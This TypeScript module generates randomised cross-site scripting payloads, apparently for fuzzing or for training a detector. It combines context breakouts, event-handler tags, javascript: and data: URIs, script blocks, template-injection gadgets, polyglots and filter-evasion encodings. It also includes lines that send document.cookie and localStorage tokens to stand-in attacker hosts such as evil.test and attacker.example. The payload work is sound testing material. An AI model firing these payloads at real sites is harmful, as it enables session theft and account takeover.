import type { Rng } from './rng.js';
import { htmlEntityEncode, randomCase } from './obfuscate.js';

/** XSS grammar: context breakout, then a tag with an event handler / a javascript: URI / a script block / a template gadget. */

const HOST = () => ['evil.test', 'attacker.example', 'x.test', '10.0.0.9:8000', 'xss.example.net', 'a.b'];
function js(rng: Rng): string {
  const host = rng.pick(HOST());
  return rng.pick([
    'alert(1)', 'alert(1)', `alert(${rng.int(0, 999)})`, "alert('xss')", 'alert(document.cookie)', 'alert(document.domain)', 'prompt(1)', 'confirm(1)',
    'alert`1`', 'prompt`xss`', '(alert)(1)', 'window.alert(1)', "top['al'+'ert'](1)", 'self[`alert`](1)', 'alert?.(1)', "eval('ale'+'rt(1)')",
    `eval(atob('${Buffer.from('alert(1)').toString('base64')}'))`, `fetch('//${host}/?c='+document.cookie)`, `document.location='http://${host}/steal?'+document.cookie`,
    `new Image().src='//${host}/'+document.cookie`, `location='//${host}'`, 'document.write(1)', "setTimeout('alert(1)')", "import('//" + host + "/x.js')",
    'String.fromCharCode(88,83,83)', 'alert(String.fromCharCode(88,83,83))', "[].constructor.constructor('alert(1)')()", 'Function("alert(1)")()',
    `navigator.sendBeacon('//${host}',document.cookie)`, 'print()', 'console.log(1)', 'document.body.innerHTML=1', 'throw onerror=alert,1', `this.src='//${host}/'+localStorage.token`,
    'alert(window.origin)', 'debugger', "window['ev'+'al'](location.hash.slice(1))", `$.getScript('//${host}/p.js')`, 'top.location=name', 'opener.location=1',
  ]);
}

const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onmouseenter', 'onanimationstart', 'ontoggle', 'onpointerover', 'onbegin',
  'onwheel', 'onscroll', 'onpageshow', 'onhashchange', 'oninput', 'onchange', 'onsubmit', 'onresize', 'onkeyup', 'onkeydown', 'ondrag', 'oncopy', 'onpaste',
  'onmousedown', 'ontransitionend', 'onfocusin', 'onauxclick', 'ondblclick', 'onplay', 'onloadstart', 'onstart', 'onend', 'onpointerdown', 'onbeforeprint', 'onmessage', 'onpopstate', 'oncontextmenu'];

const sep = (rng: Rng) => rng.pick([' ', ' ', ' ', '/', '\t', '\n', '/x/', '  ', '%09', '%0a', '%0c', '/a/']);
function quote(rng: Rng, v: string): string {
  const qq = rng.pick(['"', "'", '', '', '`']);
  return `${qq}${v}${qq}`;
}

function tag(rng: Rng, name: string, attrs: string, content = '', close = true): string {
  const n = rng.chance(0.3) ? randomCase(rng, name) : name;
  const end = rng.pick(['>', '>', '>', ' >', '//', '/>', '']);
  return `<${n}${sep(rng)}${attrs}${end}${content}${close && rng.chance(0.6) ? `</${n}>` : ''}`;
}

function handlerTag(rng: Rng): string {
  const ev = rng.pick(EVENTS);
  const h = `${rng.chance(0.3) ? randomCase(rng, ev) : ev}=${quote(rng, js(rng))}`;
  return rng.weighted<string>([
    [6, () => tag(rng, 'img', `src=${quote(rng, rng.pick(['x', '1', '#', '/', 'x.png', 'data:,']))}${sep(rng)}${h}`, '', false)],
    [5, () => tag(rng, 'svg', `${rng.pick(['onload', 'onload', 'onbegin'])}=${quote(rng, js(rng))}`)],
    [2, () => tag(rng, 'body', h)],
    [2, () => tag(rng, rng.pick(['input', 'select', 'textarea', 'keygen']), `autofocus${sep(rng)}${rng.pick(['onfocus', 'onfocusin', 'onblur'])}=${quote(rng, js(rng))}`)],
    [2, () => tag(rng, 'details', `open${sep(rng)}ontoggle=${quote(rng, js(rng))}`)],
    [2, () => tag(rng, rng.pick(['video', 'audio', 'source']), `src=${quote(rng, 'x')}${sep(rng)}onerror=${quote(rng, js(rng))}`)],
    [1, () => tag(rng, 'marquee', `onstart=${quote(rng, js(rng))}`)],
    [1, () => tag(rng, 'iframe', `onload=${quote(rng, js(rng))}`)],
    [3, () => tag(rng, rng.pick(['a', 'div', 'p', 'span', 'b', 'x', 'xss', 'custom-tag', 'h1', 'button', 'form', 'table', 'td', 'li', 'style', 'math', 'object', 'frameset', 'html', 'animate', 'set']), h, rng.pick(['click', 'x', '', 'hover me']))],
    [1, () => tag(rng, rng.pick(['div', 'x', 'a']), `contenteditable${sep(rng)}${h}`)],
    [1, () => tag(rng, rng.pick(['div', 'span']), `style=${quote(rng, rng.pick(['animation-name:x', 'width:100%;height:100%;position:fixed']))}${sep(rng)}${h}`)],
    [1, () => `<svg><animate ${rng.pick(['onbegin', 'onend'])}=${quote(rng, js(rng))} attributeName=x dur=1s>`],
    [1, () => `<svg><set attributeName=${rng.pick(['onmouseover', 'href'])} to=${quote(rng, js(rng))}>`],
  ]);
}

function uriPayload(rng: Rng): string {
  const scheme = rng.pick(['javascript:', 'JavaScript:', 'javascript:', 'java\tscript:', 'jav&#x09;ascript:', 'javascript&colon;', ' javascript:', 'javas\ncript:', 'vbscript:', '&#106;avascript:']);
  const uri = rng.weighted<string>([
    [6, () => `${scheme}${js(rng)}`],
    [2, () => `data:text/html;base64,${Buffer.from(`<script>${js(rng)}</script>`).toString('base64')}`],
    [1, () => `data:text/html,<script>${js(rng)}</script>`],
    [1, () => `data:image/svg+xml,<svg onload=${js(rng)}>`],
  ]);
  return rng.weighted<string>([
    [4, () => tag(rng, 'a', `href=${quote(rng, uri)}`, rng.pick(['click', 'x', 'link', 'here']), true)],
    [3, () => tag(rng, 'iframe', `src=${quote(rng, uri)}`)],
    [1, () => tag(rng, rng.pick(['object', 'embed']), `${rng.pick(['data', 'src'])}=${quote(rng, uri)}`)],
    [1, () => tag(rng, 'form', `action=${quote(rng, uri)}`, '<input type=submit>')],
    [1, () => tag(rng, 'button', `formaction=${quote(rng, uri)}`, 'x')],
    [1, () => `<math><${rng.pick(['mtext', 'maction', 'mi'])} href=${quote(rng, uri)}>click</math>`],
    [1, () => tag(rng, 'meta', `http-equiv="refresh" content="0;url=${uri}"`, '', false)],
    [1, () => tag(rng, 'base', `href=${quote(rng, uri.replace(/alert.*$/, '//'))}`, '', false)],
    [4, () => uri],
  ]);
}

function scriptBlock(rng: Rng): string {
  const open = rng.pick(['<script>', '<SCRIPT>', '<script type="text/javascript">', '<ScRiPt>', '<script >', '<script\n>', '<script/x>']);
  return rng.weighted<string>([
    [6, () => `${open}${js(rng)}${rng.pick(['</script>', '</SCRIPT>', '</script >', '', '//'])}`],
    [3, () => `<script src=${quote(rng, rng.pick(['//' + rng.pick(HOST()) + '/x.js', 'http://' + rng.pick(HOST()) + '/a.js', 'data:,' + js(rng)]))}></script>`],
    [1, () => `<scr<script>ipt>${js(rng)}</scr</script>ipt>`],
    [1, () => `<style>@import '//${rng.pick(HOST())}/x.css';</style>`],
    [1, () => `<div style="background:url(javascript:${js(rng)})">`],
    [1, () => `<style>*{x:expression(${js(rng)})}</style>`],
    [1, () => `<link rel=${rng.pick(['import', 'stylesheet'])} href=${quote(rng, '//' + rng.pick(HOST()) + '/x')}>`],
  ]);
}

function templateGadget(rng: Rng): string {
  return rng.pick([
    `{{constructor.constructor('${js(rng)}')()}}`, `{{$on.constructor('${js(rng)}')()}}`, `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${js(rng)}//');}}`,
    `\${${js(rng)}}`, `<div ng-app ng-csp><div ng-focus="$event.view.alert(1)" tabindex=0>`, `<x v-on:click="${js(rng)}">`, `[[${js(rng)}]]`,
    `{{7*7}}<img src=x onerror=${js(rng)}>`,
  ]);
}

/** Context breakers that close the attribute, tag or block an input lands in. */
function breakout(rng: Rng): string {
  return rng.pick(['', '', '', '', '">', "'>", '"/>', '">', "'", '"', '</textarea>', '</title>', '</style>', '</script>', '--><', '-->', ']]>', '</noscript>', '"></a>', "';", '";', '</option></select>', '\'">', '`>', '</iframe>', '*/']);
}

/** Breaking out of an attribute value and adding a handler, without a new tag. */
function attributeInjection(rng: Rng): string {
  const q = rng.pick(['"', "'", '']);
  return `${rng.pick(['x', '', 'foo', '1'])}${q} ${rng.pick(['', 'autofocus ', 'tabindex=1 ', 'style=animation-name:x '])}${rng.pick(EVENTS)}=${q}${js(rng)}${rng.pick([q, '', ' x=' + q])}`;
}

function jsContext(rng: Rng): string {
  return rng.pick([`';${js(rng)}//`, `";${js(rng)}//`, `'-${js(rng)}-'`, `"-${js(rng)}-"`, `\\';${js(rng)}//`, `');${js(rng)}('`, `</script><script>${js(rng)}</script>`, `'+${js(rng)}+'`]);
}

/** Several breakers and vectors run together, as in polyglots meant to fire in many contexts. */
function polyglot(rng: Rng): string {
  const parts = [breakout(rng), breakout(rng), rng.chance(0.5) ? uriPayload(rng) : '', handlerTag(rng), rng.chance(0.5) ? jsContext(rng) : ''];
  return parts.join(rng.pick(['', '//', '/*', ' ', '--!>']));
}

export function xssPayload(rng: Rng): string {
  let s = rng.weighted<string>([
    [30, () => breakout(rng) + handlerTag(rng)], [15, () => breakout(rng) + uriPayload(rng)], [16, () => breakout(rng) + scriptBlock(rng)],
    [10, () => attributeInjection(rng)], [6, () => jsContext(rng)], [5, () => templateGadget(rng)], [7, () => polyglot(rng)],
  ]);
  if (rng.chance(0.08)) s = s.replace(/(alert|prompt|confirm)\((.*?)\)/, (_m, f, a) => htmlEntityEncode(rng, `${f}(${a})`, false));
  if (rng.chance(0.05)) s = s.replace(/</g, rng.pick(['\\u003c', '\\x3c', '%3C', '&lt;'])).replace(/>/g, rng.pick(['\\u003e', '\\x3e', '%3E', '&gt;']));
  return s;
}
